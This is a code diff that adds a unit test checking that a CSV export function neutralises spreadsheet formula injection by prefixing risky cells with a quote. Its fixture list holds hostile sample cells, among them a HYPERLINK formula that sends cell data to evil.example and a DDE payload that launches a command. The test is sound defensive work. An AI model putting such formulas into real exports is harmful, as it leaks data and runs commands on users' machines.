@@ -61,6 +61,15 @@ describe('rejectedRowsCsv', () => {
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(new TextDecoder().decode(bytes)).toContain('Zoë Müller,São Paulo,2,Left out by you');
   });
+
+  it('escapes every cell a spreadsheet would run as a formula with a leading quote (OWASP CSV injection), headers and multi-line cells included', () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r=1+1', '=1+1\nsecond line'];
+    const csv = rejectedRowsCsv(['=name', 'city'], hostile.map((cell) => [cell, 'York']), hostile.map((_, row) => ({ row, reason: 'Missing postal code' })));
+    const [header, ...rows] = Papa.parse<string[]>(csv.slice(1)).data;
+    expect(header).toEqual(["'=name", 'city', 'Line', 'Reason']);
+    expect(rows.map((r) => r[0])).toEqual(hostile.map((cell) => `'${cell}`));
+    expect(rows.map((r) => r.slice(1))).toEqual(hostile.map((_, row) => ['York', String(row + 2), 'Missing postal code']));
+  });
 });
 
 describe('placeBatchErrors', () => {
